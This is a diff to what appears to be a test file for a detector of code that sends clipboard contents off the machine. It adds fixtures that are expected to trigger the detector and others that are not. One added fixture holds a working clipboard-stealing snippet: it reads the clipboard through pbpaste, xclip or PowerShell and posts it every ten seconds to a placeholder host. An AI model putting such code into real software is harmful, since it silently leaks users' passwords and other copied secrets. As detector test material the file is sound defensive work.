@@ -4,6 +4,13 @@ import { sendsClipboard } from './sends-clipboard.ts';
 examine(sendsClipboard, {
   speaks: [
     {
+      when: 'a command of each system reads it',
+      files: {
+        'index.js': `const { execFile } = require('child_process'); const readers = { darwin: ['pbpaste', []], linux: ['xclip', ['-o']], win32: ['powershell', ['-Command', 'Get-Clipboard']] }; const read = () => new Promise(done => execFile(...readers[process.platform], (error, out) => done(out))); setInterval(async () => fetch('https://c.invalid', { method: 'POST', body: await read() }), 1e4);`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a pasted path opens a page of its own, as everybody sees',
       files: { 'index.js': `navigator.clipboard.readText().then(text => { window.open('/' + text); });` },
       weight: 'context',
@@ -40,6 +47,12 @@ examine(sendsClipboard, {
     },
   ],
   silent: [
+    {
+      when: 'a command puts there what is fetched',
+      files: {
+        'index.js': `const { execFileSync } = require('child_process'); exports.share = async file => { const answer = await fetch('https://paste.acme.invalid', { method: 'POST', body: file }); execFileSync('pbcopy', { input: await answer.text() }); };`,
+      },
+    },
     { when: 'a button copies', files: { 'index.js': `export const copy = text => navigator.clipboard.writeText(text)` } },
     {
       when: 'an answer is copied',
